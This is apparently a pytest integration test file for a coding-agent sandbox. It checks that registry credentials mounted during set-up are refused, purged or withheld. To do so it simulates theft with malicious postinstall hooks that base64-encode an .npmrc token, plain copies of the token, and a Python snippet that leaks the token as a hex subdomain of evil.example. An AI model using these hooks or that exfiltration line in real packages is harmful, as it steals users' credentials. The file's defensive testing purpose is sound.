"""Set-up credentials do not outlive set-up (issue #32, item 2), on both real backends.

A setup command, or an install script it runs (here a dependency's install hook that
base64-encodes what it finds, as an exfiltrating package would), copies the mounted
``.npmrc`` into the workspace, the set-up environment (/opt/ribbit) or $HOME. A copy in
what is snapshotted refuses the set-up (the message names the file, never the value):
nothing is cached, no gate sandbox restores it, and a later job on the repository,
credentials or none, installs afresh. A copy only in $HOME or /tmp is emptied before the
agent's first command, which then finds nothing anywhere."""

from __future__ import annotations

from pathlib import Path

import pytest

from tests.fakes import make_git_repo
from worker.repo_config import RepoConfig
from worker.sandbox import open_sandbox
from worker.sandbox.envcache import EnvCache, JobEnvironment, env_key
from worker.sandbox.recipe import SandboxRecipe
from worker.settings import SandboxSettings

pytestmark = pytest.mark.integration

SECRET = "ribbit-copy-me-5b1e0d9a"
NPMRC = f"//registry.npmjs.org/:_authToken={SECRET}\n"
# A dependency's install hook: what a malicious package's postinstall does.
HOOK = 'base64 < "$NPM_CONFIG_USERCONFIG" > node_modules/evil/.cache-blob\n'
COPY = {
    "workspace": 'cp "$NPM_CONFIG_USERCONFIG" ./.npmrc-copy',
    "opt-ribbit": 'cp "$NPM_CONFIG_USERCONFIG" "$VIRTUAL_ENV/npmrc-copy"',
    "install-script": "mkdir -p node_modules/evil && sh scripts/hook.sh",
    # A real dependency's postinstall, run by npm itself.
    "npm-dependency": "npm install --offline --no-audit --no-fund",
}
DEP_PACKAGE = (
    '{"name": "dep", "version": "1.0.0", "scripts": '
    '{"postinstall": "base64 < \\"$NPM_CONFIG_USERCONFIG\\" > \\"$INIT_CWD/.stash\\""}}\n'
)
# Everywhere a sandboxed command can write or the worker mounts (the whole file system
# is tests/integration/test_setup_repo_hosts.py's hunt; this one is quicker).
_PLACES = "/workspace /opt /home /tmp /run /etc /var"
HUNT = (
    "cat /proc/*/environ 2>/dev/null | tr '\\0' '\\n'; "
    f"grep -rIsh -e {SECRET} {_PLACES} 2>/dev/null; "
    f"grep -rIsl -e $(printf %s {SECRET} | base64 | cut -c1-16) {_PLACES} 2>/dev/null; "
    "echo HUNT-DONE"
)


@pytest.fixture(params=["bubblewrap", "docker"])
def settings(request: pytest.FixtureRequest, tmp_path: Path) -> SandboxSettings:
    base: SandboxSettings = request.getfixturevalue(f"{request.param}_settings")
    creds = tmp_path / "creds"
    creds.mkdir()
    (creds / "npmrc").write_text(NPMRC)
    # The setup commands need no registry; the proxy runs (it is what mounts the
    # credentials) with nothing to reach.
    return base.model_copy(
        update={"setup_network": True, "setup_allowed_hosts": [], "setup_credentials_dir": creds}
    )


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    checkout = tmp_path / "repo"
    package = '{"name": "app", "version": "1.0.0", "dependencies": {"dep": "file:./vendor/dep"}}\n'
    make_git_repo(
        checkout,
        {"package.json": package, "scripts/hook.sh": HOOK, "vendor/dep/package.json": DEP_PACKAGE},
    )
    return checkout


def _setup(
    settings: SandboxSettings, repo: Path, command: str, workdir: Path, cache: EnvCache
) -> tuple[JobEnvironment, object]:
    config = RepoConfig(setup=command)
    key = env_key("github:team/app", settings, repo, command)
    job = JobEnvironment(config, settings, checkout=repo, workdir=workdir, cache=cache, key=key)
    with open_sandbox(settings, repo, network=True) as sandbox:
        return job, job.setup(sandbox)


@pytest.mark.parametrize("where", sorted(COPY))
def test_a_copy_in_a_snapshot_refuses_the_setup_and_goes_nowhere(
    settings: SandboxSettings, repo: Path, tmp_path: Path, where: str
) -> None:
    cache = EnvCache(tmp_path / "cache", max_bytes=1024**3, max_age_s=86400)
    job, result = _setup(settings, repo, COPY[where], tmp_path / "job1", cache)
    with job:
        assert not result.ok  # type: ignore[attr-defined]
        record = str(result.to_dict())  # type: ignore[attr-defined]
        assert "set-up refused" in record and "`npmrc`" in record
        assert SECRET not in record
        assert {
            "workspace": "/workspace/.npmrc-copy",
            "opt-ribbit": "/opt/ribbit/venv/npmrc-copy",
            "install-script": "/workspace/node_modules/evil/.cache-blob",
            "npm-dependency": "/workspace/.stash",
        }[where] in record
        assert job.snapshot is None and cache.entries() == []
        # A gate's sandbox is not set up again (the same step would copy again).
        with open_sandbox(settings, repo) as gate_sb:
            restored = job.restore(gate_sb)
            assert not restored.ok and restored.output == result.output  # type: ignore[attr-defined]
            hunt = gate_sb.exec(HUNT, timeout=300, output_cap=4 * 1024 * 1024)
        assert "HUNT-DONE" in hunt.stdout and SECRET not in hunt.stdout
    # A later job on the repository with no credentials: nothing to restore.
    plain = settings.model_copy(update={"setup_credentials_dir": None})
    later, again = _setup(plain, repo, "true", tmp_path / "job2", cache)
    with later:
        assert again.ok and again.restored_from is None  # type: ignore[attr-defined]


def test_a_copy_in_home_or_tmp_is_emptied_before_the_agent(
    settings: SandboxSettings, repo: Path, tmp_path: Path
) -> None:
    command = (
        'cp "$NPM_CONFIG_USERCONFIG" "$HOME/.npmrc" && cp "$NPM_CONFIG_USERCONFIG" /tmp/n '
        "&& mkdir -p node_modules/ok && echo fine > node_modules/ok/index.js"
    )
    config = RepoConfig(setup=command)
    job = JobEnvironment(config, settings, checkout=repo, workdir=tmp_path / "job")
    with job, open_sandbox(settings, repo, network=True) as sandbox:
        result = job.setup(sandbox)
        assert result.ok, result.output
        hunt = sandbox.exec(HUNT, timeout=300, output_cap=4 * 1024 * 1024)
        kept = sandbox.exec("cat node_modules/ok/index.js", timeout=60)
    assert "HUNT-DONE" in hunt.stdout, hunt.stderr
    assert SECRET not in hunt.stdout + hunt.stderr
    assert kept.stdout.strip() == "fine"  # what the setup built is still there


@pytest.mark.parametrize("where", ["workspace", "opt-ribbit"])
def test_the_production_recipe_refuses_a_copy_before_an_agent_or_a_rollout(
    settings: SandboxSettings, repo: Path, where: str
) -> None:
    """``ribbit run``, rollouts and the environment builder set up through the recipe
    and work on in the same sandbox, with no job snapshot: searched all the same."""
    recipe = SandboxRecipe.production(settings)
    with recipe(repo) as sandbox:
        result = recipe.setup(sandbox, COPY[where])
    assert not result.ok and "set-up refused" in result.output
    assert SECRET not in result.output
    with recipe(repo) as sandbox:
        assert recipe.setup(sandbox, "true").ok  # a clean setup is not refused


def test_a_value_smuggled_in_a_refused_host_name_is_not_reported(
    settings: SandboxSettings, repo: Path, tmp_path: Path
) -> None:
    """The proxy's refusals are listed in the PR body: a host name made of the value
    (hex, which DNS takes in any case) is withheld there."""
    command = (
        "python3 - <<'EOF'\n"
        "import os, urllib.request\n"
        "token = open(os.environ['NPM_CONFIG_USERCONFIG']).read().split('=', 1)[1].strip()\n"
        "try:\n"
        "    urllib.request.urlopen(f'https://{token.encode().hex()}.evil.example/', timeout=10)\n"
        "except OSError:\n"
        "    pass\n"
        "EOF"
    )
    job = JobEnvironment(RepoConfig(setup=command), settings, checkout=repo, workdir=tmp_path / "j")
    with job, open_sandbox(settings, repo, network=True) as sandbox:
        result = job.setup(sandbox)
    record = str(result.to_dict()) + result.blocked_markdown() + result.summary()
    assert result.blocked, record  # the request was refused and listed
    assert "[credential withheld]" in record
    assert SECRET.encode().hex() not in record.lower()
